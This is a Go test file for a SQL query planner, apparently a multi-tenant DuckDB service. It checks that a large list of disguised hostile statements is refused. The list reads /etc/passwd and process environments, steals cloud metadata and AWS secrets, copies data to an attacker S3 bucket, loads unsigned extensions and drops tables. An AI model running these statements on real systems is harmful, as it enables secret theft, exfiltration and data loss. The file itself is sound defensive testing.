package client_test

import (
	"strings"
	"testing"

	"github.com/tavana/tavana/internal/fault"
	"github.com/tavana/tavana/internal/planner/client"
)

// attacks are statements that must not reach a worker. Each is sent as it is,
// and in disguises.
func attacks() []string {
	readers := strings.Fields(`read_text read_blob read_csv read_csv_auto sniff_csv read_json read_json_auto
		read_json_objects read_ndjson read_parquet parquet_scan parquet_metadata parquet_schema parquet_file_metadata
		parquet_kv_metadata parquet_bloom_probe read_duckdb read_xlsx st_read sqlite_scan delta_scan iceberg_scan`)
	paths := strings.Fields(`/etc/passwd /proc/self/environ /proc/1/cmdline ../../../etc/passwd file:///etc/passwd
		~/.duckdb/stored_secrets http://169.254.169.254/latest/meta-data/ http://[fd00:ec2::254]/ http://2130706433/
		s3://other-tenant/x hf://datasets/x cmd|`)
	var all []string
	for i, reader := range readers {
		all = append(all, "SELECT * FROM "+reader+"('"+paths[i%len(paths)]+"')")
	}
	return append(all, strings.Split(strings.TrimSpace(attackList), "\n")...)
}

const attackList = `
FROM '/etc/passwd.csv'
FROM "/etc/passwd.csv"
SELECT * FROM 's3://attacker/x.parquet'
SELECT * FROM 'https://example.com/x.csv'
SELECT * FROM glob('/etc/*')
SELECT * FROM glob('/proc/*/cmdline')
SUMMARIZE '/etc/passwd'
SUMMARIZE SELECT * FROM read_csv('/etc/passwd')
DESCRIBE SELECT * FROM read_csv('/etc/passwd')
DESCRIBE '/etc/passwd.csv'
EXPLAIN ANALYZE SELECT * FROM read_text('/etc/passwd')
EXPLAIN (ANALYZE, FORMAT json) SELECT * FROM read_text('/etc/passwd')
WITH a AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM a
WITH read_text AS (SELECT 1) SELECT * FROM read_text('/etc/passwd')
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT * FROM lineitem, LATERAL (SELECT * FROM read_text(l_comment))
SELECT * FROM lineitem WHERE EXISTS (FROM read_text('/etc/passwd'))
SELECT 1 UNION ALL SELECT length(content) FROM read_text('/etc/passwd')
SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')
SELECT * FROM query_table('lineitem')
SELECT * FROM query_table('/etc/passwd.csv')
FROM json_execute_serialized_sql(json_serialize_sql('select 1'))
PRAGMA json_execute_serialized_sql('x')
SELECT json_serialize_plan('select 1')
SELECT json_serialize_sql('select 1')
SELECT json_deserialize_sql('{}')
FROM sql_auto_complete('select * from read_')
PIVOT (SELECT * FROM read_text('/etc/passwd')) ON filename IN ('a') USING count(*)
PIVOT lineitem ON l_returnflag USING count(*)
FROM (PIVOT lineitem ON l_returnflag USING count(*))
PREPARE p AS SELECT * FROM read_text('/etc/passwd')
EXECUTE p
CREATE VIEW v AS SELECT * FROM read_text('/etc/passwd')
CREATE MACRO read_text2(x) AS TABLE SELECT * FROM read_text(x)
CREATE OR REPLACE FUNCTION upper(x) AS 'pwned'
CREATE TEMP TABLE t AS SELECT 1
CREATE TABLE t AS SELECT * FROM range(1)
COPY lineitem TO '/tmp/x'
COPY lineitem TO '/dev/stdout'
COPY (SELECT 1) TO 's3://attacker/x' (FORMAT parquet)
COPY lineitem FROM '/etc/passwd'
COPY FROM DATABASE local TO other
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
SET log_query_path = '/tmp/x'
SET profiling_output = '/tmp/x'
PRAGMA profile_output = '/tmp/x'
PRAGMA enable_profiling = 'json'
CALL enable_logging(storage='file', storage_path='/tmp/x')
FROM enable_logging()
ATTACH '/other/tenant.db' (READ_ONLY)
ATTACH '/tmp/new.db'
ATTACH '/etc/passwd' (TYPE sqlite)
ATTACH 'postgres:host=127.0.0.1'
ATTACH ':memory:'
DETACH local
USE other
INSTALL httpfs
INSTALL x FROM community
FORCE INSTALL x FROM 'http://example.com'
LOAD httpfs
LOAD '/tmp/x.duckdb_extension'
UPDATE EXTENSIONS
SET custom_extension_repository = 'http://example.com'
SET allow_unsigned_extensions = true
CALL dbgen(sf=100)
FROM dbgen(sf=100)
SET memory_limit = '100GB'
SET GLOBAL threads = 100
RESET lock_configuration
PRAGMA threads = 100
SELECT set_config('memory_limit', '1GB', false)
SELECT current_setting('temp_directory')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets(redact=false)
SELECT * FROM duckdb_databases()
SELECT * FROM duckdb_memory()
SELECT * FROM duckdb_temporary_files()
SELECT * FROM duckdb_logs
SELECT * FROM duckdb_views
SELECT * FROM duckdb_views()
SELECT sql FROM sqlite_master
SELECT * FROM pragma_database_size()
SELECT * FROM pragma_storage_info('lineitem')
PRAGMA database_list
PRAGMA show_tables
SELECT * FROM which_secret('s3://x', 's3')
SELECT which_secret('s3://x', 's3')
CREATE SECRET s (TYPE s3)
CREATE PERSISTENT SECRET s (TYPE s3)
DROP SECRET s
SELECT getenv('AWS_SECRET_ACCESS_KEY')
SELECT getvariable('x')
SET VARIABLE x = 1
SELECT write_log('x')
SELECT sleep_ms(60000)
SELECT pg_sleep(60)
SELECT nextval('s')
SELECT pg_get_viewdef(1)
SELECT * FROM pg_catalog.pg_class
SELECT * FROM information_schema.tables
SELECT * FROM local.information_schema.tables
SELECT * FROM system.main.duckdb_views
SELECT * FROM "PG_CATALOG"."pg_class"
SHOW ALL TABLES
FROM (SHOW DATABASES)
INSERT INTO pg_catalog.pg_class VALUES (1)
INSERT INTO lineitem SELECT * FROM lineitem
DELETE FROM lineitem
UPDATE lineitem SET l_tax = 0
MERGE INTO lineitem USING orders ON true WHEN MATCHED THEN DELETE
TRUNCATE lineitem
DROP TABLE lineitem
ALTER TABLE lineitem ADD COLUMN x INT
VACUUM
CHECKPOINT
FORCE CHECKPOINT
SELECT * FROM force_checkpoint()
PRAGMA disable_checkpoint_on_shutdown
CALL pragma_version()
SELECT * FROM test_all_types()
SELECT * FROM tavana_table_0()
SELECT * FROM "tenant_b".t
SELECT * FROM seq_scan('lineitem')
SELECT 1; DROP TABLE lineitem
SELECT 1; SELECT * FROM read_text('/etc/passwd')
EXPLAIN DELETE FROM lineitem
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1
SELECT '/etc/passwd'.read_text()
SELECT * FROM lineitem ORDER BY (SELECT content FROM read_text('/etc/passwd'))
SELECT * FROM lineitem LIMIT (SELECT count(*) FROM read_text('/etc/passwd'))
SELECT list_transform([1], x -> getenv('HOME'))
SELECT list_transform([1], lambda x: current_setting('threads'))
SELECT [getenv(x) FOR x IN ['HOME']]
SELECT count(*) FILTER (WHERE getenv('HOME') = '') FROM lineitem
SELECT sum(1) OVER (ORDER BY getenv('HOME')) FROM lineitem
SELECT * REPLACE (getenv('HOME') AS l_tax) FROM lineitem
SELECT system.main.getenv('HOME')
FROM histogram_values(lineitem, l_tax)
FROM histogram('lineitem', 'l_tax')
VALUES (getenv('HOME'))
`

// disguises change how an attack looks and not what it is.
func disguises() map[string]func(string) string {
	return map[string]func(string) string{
		"plain":         func(s string) string { return s },
		"lower":         strings.ToLower,
		"upper":         strings.ToUpper,
		"comments":      func(s string) string { return "/* a /* b */ */ " + strings.ReplaceAll(s, " ", " -- '\n /*\"*/ ") },
		"semicolon":     func(s string) string { return " ;" + s + "; ;" },
		"explained":     func(s string) string { return "EXPLAIN " + s },
		"parenthesized": func(s string) string { return "(" + s + ")" },
		"quoted": func(s string) string {
			for _, name := range []string{"read_text", "read_csv", "getenv", "glob", "query", "duckdb_views", "current_setting"} {
				s = strings.ReplaceAll(s, name+"(", `"`+strings.ToUpper(name)+`"(`)
			}
			return s
		},
	}
}

func TestPlanRefusesAttacks(t *testing.T) {
	t.Parallel()
	pool := newPool(t, func(c *client.Config) { c.Deadline = testWait })
	for name, disguise := range disguises() {
		for _, attack := range attacks() {
			text := disguise(attack)
			facts, err := analyze(t.Context(), pool, statement(text), visibility("all"))
			if err == nil {
				t.Errorf("%s: %q is planned, want it refused; facts %+v", name, text, facts)
				continue
			}
			switch kind := fault.KindOf(err); kind {
			case fault.Unsupported, fault.PermissionDenied, fault.ReadOnly, fault.Syntax,
				fault.UndefinedTable, fault.UndefinedFunction, fault.InvalidCatalog, fault.UndefinedColumn:
			default:
				t.Errorf("%s: %q is refused with %s (%v), want a kind that says why", name, text, kind, err)
			}
			if text := fault.From(err); strings.Contains(text.Hint+text.Detail, "tavana_table") {
				t.Errorf("%s: the error of %q shows internals: %v", name, attack, text)
			}
		}
	}
}
